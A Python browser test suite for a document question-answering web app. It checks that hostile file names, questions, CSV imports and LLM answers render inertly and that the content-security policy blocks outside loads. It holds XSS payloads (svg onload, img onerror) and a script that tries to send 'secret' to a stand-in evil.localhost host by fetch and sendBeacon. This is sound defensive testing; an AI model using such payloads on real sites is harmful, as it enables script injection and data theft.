"""Hostile documents, names, questions and answers in a real browser: nothing leaves, runs, or imitates the page.

The browser is free to ask whomever it likes, and is watched: every request, and every connection to a canary,
which listens under the host name that all attacks name. While answers stream, each change is looked at.
"""

from __future__ import annotations

import json
import re
import socket
import threading
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from playwright.sync_api import Browser, FilePayload, Page, Request, expect

from app_pages.parts.text import one_paragraph
from rag.evidence.formats import write_csv
from rag.evidence.questions import Judgement, Question, question_id
from rag.guard import HEADERS
from tests.attacks import ATTACKS, HOST, NAMES, UNFINISHED, attack_pdf
from tests.browser.conftest import App, settle, start_app, stop_app
from tests.browser.test_app import ask, switch, upload
from tests.browser.test_ask import complete
from tests.fake_llm import FakeLlm, say
from tests.pdfs import truncated_pdf

pytestmark = pytest.mark.browser

SLOW = 120_000
PARTS = 4
"""The attacks are given in so many answers, each with an end that is never finished."""
PIECE = 7
QUESTION = "How often is the oil of the pump changed? Tell me part {part}."

WATCH = r"""
(() => {
  const HOST = __HOST__, LOADS = ["src", "srcset", "href", "xlink:href", "action", "formaction", "poster", "data",
    "background", "ping", "style", "content", "srcdoc"];
  const PLAIN = new Set(
    "P STRONG EM DEL CODE PRE UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD HR BR A DIV SPAN".split(" "));
  const COPIES = new Set(["BUTTON", "SVG", "PATH"]);
  const seen = (window.__seen = {violations: new Set(), texts: new Set(), looks: 0});
  const say = (what, element) => seen.violations.add(what + ": " + element.outerHTML.slice(0, 300));
  const check = (element) => {
    for (const name of LOADS) {
      const value = element.getAttribute(name);
      if (value && (value.includes(HOST) || /^\s*(javascript|vbscript):/i.test(value)))
        say("points away", element);
    }
    for (const attribute of element.attributes)
      if (attribute.name.startsWith("on")) say("handler", element);
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "FRAME", "VIDEO", "AUDIO", "MATH"].includes(element.tagName) ||
        (element.tagName === "META" && element.httpEquiv)) say("foreign element", element);
    if (element.tagName === "STYLE" && element.textContent.includes(HOST)) say("style", element);
    if (element.tagName === "SCRIPT" && element.closest("#root")) say("script", element);
  };
  const OWN = '[class*="st-key-cites-"], [data-testid="stAlert"], [data-testid="stCaptionContainer"]';
  const checkAnswer = (area) => {
    for (const element of area.querySelectorAll('[data-testid="stMarkdownContainer"] *')) {
      if (element.closest(OWN)) continue;
      const name = element.tagName.toUpperCase();
      // a block of code has Streamlit's button that copies it
      if (!PLAIN.has(name) && !(element.closest('[data-testid="stMarkdownPre"]') && COPIES.has(name)))
        say("in an answer", element);
      if (name === "A" && !/^#q1-(reranked|plain)-\d+$/.test(element.getAttribute("href"))) say("link", element);
      if (/badge|material|katex|emoji/i.test(String(element.className))) say("looks", element);
      if (element.getAttribute("role") || element.id) say("role", element);
    }
    seen.texts.add(area.innerText.length);
  };
  const checkText = (text) => {
    if (text.querySelector("a, img, svg, button, strong, em, code, span span, style")) say("in a text", text);
  };
  const look = (records) => {
    seen.looks += 1;
    for (const record of records) {
      if (record.type === "attributes") check(record.target);
      for (const node of record.addedNodes) {
        if (node.nodeType !== 1) continue;
        check(node);
        node.querySelectorAll("*").forEach(check);
      }
    }
    document.querySelectorAll('[class*="st-key-answer-"]').forEach(checkAnswer);
    document.querySelectorAll('[data-testid="stText"]').forEach(checkText);
  };
  const all = {subtree: true, childList: true, attributes: true, characterData: true};
  new MutationObserver(look).observe(document, all);
  // Streamlit itself would fetch the icon of a page for the tab from a host of its makers: the policy forbids it
  window.addEventListener("securitypolicyviolation", (event) =>
    event.blockedURI.startsWith("https://fonts.gstatic.com/s/i/short-term/release/materialsymbolsrounded/") ||
    seen.violations.add("policy: " + event.violatedDirective + " " + event.blockedURI));
})();
"""


class Canary:
    """Listens under a name that is not the app's; nobody must ever connect to it."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.1)
        self.connections: list[bytes] = []
        self._over = threading.Event()
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    @property
    def host(self) -> str:
        """Name and port; a browser takes any name that ends in localhost for this machine."""
        return f"evil.localhost:{self._socket.getsockname()[1]}"

    def close(self) -> None:
        self._over.set()
        self._thread.join()
        self._socket.close()

    def _listen(self) -> None:
        while not self._over.is_set():
            try:
                connection, _ = self._socket.accept()
            except TimeoutError:
                continue
            with connection:
                self.connections.append(_first_bytes(connection))


def _first_bytes(connection: socket.socket) -> bytes:
    """What was sent at once; nothing where a browser only made ready for a request that it then did not make."""
    connection.settimeout(1)
    try:
        return connection.recv(1000)
    except (TimeoutError, ConnectionError):
        return b""


@dataclass
class Watched:
    """A page that may do what it likes, and all that it did."""

    page: Page
    app: App
    asked: list[str] = field(default_factory=list)
    events: list[str] = field(default_factory=list)

    def assert_harmless(self) -> None:
        """Nothing was asked of another host, no script ran, no element stands where it must not."""
        foreign = [url for url in self.asked if not url.startswith((self.app.url, "data:", "blob:"))]
        assert foreign == []
        assert self.events == []
        assert self.page.evaluate("[...window.__seen.violations]") == []
        assert self.page.evaluate("window.hacked") is None
        assert len(self.page.frames) == 1

    def looks(self) -> int:
        """How many different states of the answers were looked at."""
        return int(self.page.evaluate("window.__seen.texts.size"))


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    made = Canary()
    yield made
    made.close()


@pytest.fixture(scope="module")
def attacks(canary: Canary) -> list[str]:
    """The attacks, aimed at the canary."""
    return [attack.replace(HOST, canary.host) for attack in ATTACKS]


def answer_of(attacks: list[str], part: int, canary: Canary) -> str:
    """All that an LLM repeats for a part: true marks, false ones, the attacks word for word."""
    last = UNFINISHED[part].replace(HOST, canary.host)
    begin, end = "True [1], true [2], false [77].", "True [3]."
    return "\n\n".join([begin, *attacks[part::PARTS], end, last])


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory, attacks: list[str], canary: Canary) -> Iterator[App]:
    """The app with an LLM that repeats attacks, in small pieces."""

    def repeat(fake: FakeLlm, handler: BaseHTTPRequestHandler) -> None:
        asked = re.findall(r"part (\d)", json.dumps(fake.requests[-1].body))
        text = answer_of(attacks, int(asked[-1]), canary)
        say(*re.findall(rf"[\s\S]{{1,{PIECE}}}", text), between=0.008)(fake, handler)

    folder = tmp_path_factory.mktemp("injection")
    with FakeLlm(repeat) as llm:
        running = start_app(
            folder / "data", folder / "app.log", OPENAI_BASE_URL=llm.base_url, LLM_MODEL="tiny"
        )
        yield running
        stop_app(running)


@pytest.fixture
def watch(browser: Browser, app: App, canary: Canary) -> Iterator[Callable[[str], Watched]]:
    """Open an address in a browser that blocks nothing."""
    opened: list[Watched] = []

    def open_page(path: str) -> Watched:
        context = browser.new_context(viewport={"width": 1440, "height": 900}, accept_downloads=True)
        page = context.new_page()
        page.set_default_timeout(SLOW)
        watched = Watched(page, app)
        opened.append(watched)

        def note(request: Request) -> None:
            watched.asked.append(request.url)

        context.on("request", note)
        page.on("websocket", lambda socket: watched.asked.append(re.sub("^ws", "http", socket.url)))
        page.on("dialog", lambda dialog: watched.events.append(f"dialog {dialog.message}"))
        page.on("popup", lambda popup: watched.events.append(f"popup {popup.url}"))
        page.on("pageerror", lambda error: watched.events.append(f"error {error}"))
        page.add_init_script(WATCH.replace("__HOST__", json.dumps(canary.host)))
        page.goto(app.url + path)
        return watched

    yield open_page
    for watched in opened:
        watched.assert_harmless()
        watched.page.context.close()
    assert canary.connections == []


def names(canary: Canary) -> list[str]:
    return [name.replace(HOST, canary.host.replace(":", "_")) for name in NAMES]


def test_names_titles_and_headings_are_words(
    watch: Callable[[str], Watched], attacks: list[str], canary: Canary
) -> None:
    watched = watch("/documents")
    page = watched.page
    files = [
        (name, attack_pdf(attacks[part::PARTS], title=attacks[part], headings=attacks[part::PARTS]))
        for part, name in enumerate(names(canary))
    ]
    broken = "<svg onload=window.hacked=1> ![x](http:x) :red[broken].pdf"
    upload(page, *files, (broken, truncated_pdf()))
    expect(page.get_by_text(f"Library: {PARTS} documents")).to_be_visible(timeout=SLOW)
    settle(page)
    listed = page.locator('[class*="st-key-document-"] strong').all_inner_texts()
    assert sorted(listed) == sorted(one_paragraph(name) for name in names(canary))
    queue = page.locator('[class*="st-key-queue"]')
    expect(queue).to_contain_text(broken)
    expect(queue).to_contain_text("damaged")
    assert page.locator('[class*="st-key-document-"]').locator("img, a, code a, h1, h2, h3").count() == 0

    page.locator('[class*="st-key-document-"]').first.get_by_role("button", name="Delete").click()
    expect(page.get_by_role("dialog")).to_contain_text("are removed")
    page.get_by_role("button", name="Keep").click()


@pytest.mark.parametrize("part", range(PARTS))
def test_attacks_in_answers_are_harmless_at_every_moment(
    watch: Callable[[str], Watched], part: int, attacks: list[str]
) -> None:
    watched = watch("/")
    page = watched.page
    if part == 3:
        switch(page, "Compare")
    ask(page, QUESTION.format(part=part))
    complete(page)
    settle(page)
    assert watched.looks() > 15
    for side in ("reranked", "plain") if part == 3 else ("reranked",):
        answer = page.locator(f'[class*="st-key-answer-1-{side}"]')
        assert_citations_true(page, side)
        # what is no markup stands there letter for letter
        expect(answer).to_contain_text("True [1], true [2], false.")
        assert answer.get_by_test_id("stAlert").count() == 1
        expect(answer.get_by_test_id("stAlert")).to_contain_text("The answer cited [77]")
    assert_cards_are_literal(page)
    if part == 0:
        look_around(watched)


def assert_citations_true(page: Page, side: str) -> None:
    """Every number shown is a source: its link leads to the card of that rank, its button names the same page."""
    area = page.locator(f'[class*="st-key-answer-1-{side}"]')
    links = area.locator("a").evaluate_all(
        "(links) => links.map((a) => [a.innerText, a.getAttribute('href')])"
    )
    assert links
    for shown, target in links:
        number = re.fullmatch(r"\[(\d+)\]", shown)
        assert number, shown
        assert target == f"#q1-{side}-{number[1]}"
        assert page.locator(f"h3{target}").count() == 1
    buttons = area.locator('[class*="st-key-cites-"]').get_by_role("button").all_inner_texts()
    numbers = {int(shown[1:-1]) for shown, _ in links}
    cited = [re.search(r"\[(\d+)\] (.*)$", text.replace("\n", " ")) for text in buttons]
    assert {int(one[1]) for one in cited if one} == numbers
    for one in cited:
        assert one
        title = page.locator(f"h3#q1-{side}-{one[1]}").inner_text()
        assert title == f"#{one[1]} · {one[2]}"


def assert_cards_are_literal(page: Page) -> None:
    """A card is a title, a place for scores, and its passage word for word; nothing else is in it."""
    cards = page.locator('[class*="st-key-card-"]')
    assert cards.count() >= 5
    for tag in (
        "img",
        "iframe",
        "script",
        "form",
        "input",
        "a[href*='localhost']",
        "h1",
        "h2",
        "h4",
        "table",
    ):
        assert cards.locator(tag).count() == 0, tag
    assert cards.locator("h3").count() == cards.count()
    for card in cards.all():
        assert card.get_by_test_id("stText").count() == 1
        assert card.get_by_test_id("stText").inner_text().startswith("Pump note")


def look_around(watched: Watched) -> None:
    """The table of candidates, a tooltip of the picture, the source dialog, both exports."""
    page = watched.page
    page.get_by_text(re.compile(r"All \d+ candidates")).click()
    expect(page.get_by_test_id("stDataFrame")).to_be_visible()

    lines = page.locator("svg.marks g.mark-rule").last.locator("line")
    tip = page.locator("#vg-tooltip-element.visible")
    lines.last.scroll_into_view_if_needed()
    for place in range(lines.count()):
        x, y = lines.nth(place).evaluate(
            """(line) => {
                const [x2, y2] = ["x2", "y2"].map((name) => Number(line.getAttribute(name)));
                const point = new DOMPoint(0.03 * x2, 0.03 * y2).matrixTransform(line.getScreenCTM());
                return [point.x, point.y];
            }"""
        )
        page.mouse.move(x, y)
    expect(tip).to_be_visible()
    assert tip.locator("img, script, a, iframe, style").count() == 0
    page.mouse.move(0, 0)

    page.locator('[class*="st-key-cites-"]').get_by_role("button").first.click()
    dialog = page.get_by_role("dialog")
    expect(dialog.get_by_text("Why this passage")).to_be_visible()
    expect(dialog.get_by_text("strongest")).to_be_visible()
    expect(dialog.locator("img")).to_have_count(1)
    title = page.locator("h3#q1-reranked-1").inner_text().removeprefix("#1 · ").rsplit(", page ", 1)[0]
    expect(dialog).to_contain_text(title)
    page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)

    with page.expect_download() as downloaded:
        page.get_by_role("button", name="Conversation as Markdown").first.click()
    text = Path(downloaded.value.path()).read_text(encoding="utf-8")
    shown = re.sub(r"(?s)(`+).*?(?<!`)\1(?!`)|\\.", "", text)
    assert not re.search(r"!\[|\]\(|<[a-z/!]", shown)


def test_a_hostile_question_stays_words(watch: Callable[[str], Watched]) -> None:
    watched = watch("/")
    page = watched.page
    hostile = "![x](http://evil.example/x.png) <b>:red[oil]</b> $x$ Tell me part 1."
    ask(page, hostile)
    complete(page)
    asked = page.get_by_test_id("stChatMessage").first
    expect(asked.get_by_test_id("stText")).to_have_text(hostile)
    assert asked.locator("img, b, strong, a").count() == 0


def test_question_sets_from_outside_are_words(
    watch: Callable[[str], Watched], attacks: list[str], canary: Canary
) -> None:
    chosen = [one_paragraph(attack) for attack in attacks if len(attack) < 200][:6]
    document = one_paragraph(names(canary)[0])
    questions = tuple(
        Question(question_id(text), text, (Judgement(document, (number,), text),), answer=text)
        for number, text in enumerate(chosen, start=1)
    )
    watched = watch("/evidence")
    page = watched.page
    name = ":red[x] ![y](http:z) <img src=x onerror=window.hacked=1>.csv"
    page.locator('input[type="file"]').set_input_files(
        [FilePayload(name=name, mimeType="text/csv", buffer=write_csv(questions))]
    )
    expect(page.get_by_text(f"Imported {len(questions)} questions")).to_be_visible()
    settle(page)
    page.get_by_role("button", name=f"Ask {len(questions)} questions").click()
    expect(page.locator('[class*="st-key-verdict-"]')).to_be_visible(timeout=SLOW)
    expect(page.get_by_role("heading", name="Question by question")).to_be_visible()
    settle(page)
    main = page.get_by_test_id("stMain")
    assert main.locator("img[src^='http'], iframe, form[action], a[href*='localhost']").count() == 0


# --- Headers ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/documents",
        "/evidence",
        "/_stcore/health",
        "/static/nothing.js",
        "/api/documents",
        "/api/openapi.json",
        "/api/nothing",
        "/api/documents/nothing/file",
        "/no/such/page",
    ],
)
def test_every_answer_of_the_running_app_has_the_headers(app: App, path: str) -> None:
    try:
        answer = urllib.request.urlopen(app.url + path, timeout=30)
    except urllib.error.HTTPError as error:
        answer = error
    with answer:
        for name, value in HEADERS.items():
            assert answer.headers[name], f"{path}: {name}"
            if not path.endswith("/file"):
                assert answer.headers[name] == value
        policy = answer.headers["Content-Security-Policy"]
        assert "img-src 'self' data: blob:" in policy or "default-src 'none'" in policy


def test_the_files_of_the_front_end_have_the_headers(watch: Callable[[str], Watched]) -> None:
    watched = watch("/")
    settle(watched.page)
    scripts = watched.page.evaluate("[...document.scripts].map((one) => one.src).filter(Boolean)")
    assert scripts
    for address in scripts:
        answer = watched.page.request.get(address)
        assert answer.headers["content-security-policy"] == HEADERS["Content-Security-Policy"]
        assert answer.headers["x-content-type-options"] == "nosniff"


LOADED_BY_HAND = """
(host) => new Promise((done) => {
  const blocked = [];
  document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
  const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values));
  add("img", {src: `http://${host}/x.png`});
  add("script", {src: `http://${host}/x.js`});
  add("iframe", {src: `http://${host}/`});
  add("link", {rel: "stylesheet", href: `http://${host}/x.css`});
  add("video", {src: `http://${host}/v.mp4`});
  add("object", {data: `http://${host}/o`});
  fetch(`http://${host}/?q=secret`).catch(() => {});
  new Image().src = `http://${host}/y.png`;
  try { new WebSocket(`ws://${host}/`); } catch {}
  navigator.sendBeacon(`http://${host}/b`, "secret");
  const form = document.createElement("form");
  Object.assign(form, {action: `http://${host}/f`, method: "post"});
  document.body.append(form);
  form.submit();
  setTimeout(() => done(blocked), 1500);
})
"""


def test_the_policy_is_kept_by_the_browser(browser: Browser, app: App) -> None:
    """Even markup or script that got through would load nothing from another host and send nothing there."""
    listening = Canary()
    context = browser.new_context()
    page = context.new_page()
    page.goto(app.url)
    settle(page)
    blocked = page.evaluate(LOADED_BY_HAND, listening.host)
    directives = {"img-src", "script-src-elem", "frame-src", "style-src-elem", "connect-src", "form-action"}
    assert directives <= set(blocked)
    assert page.url.startswith(app.url)
    context.close()
    listening.close()
    # Chromium may open a connection before it asks the policy; a request is what must not be made
    assert not any(listening.connections)


def test_no_other_site_can_frame_the_app(browser: Browser, app: App) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.set_content(f'<iframe src="{app.url}"></iframe>')
    page.wait_for_timeout(1500)
    framed = [frame.url for frame in page.frames if frame != page.main_frame]
    assert framed
    assert not any(url.startswith(app.url) for url in framed)
    context.close()
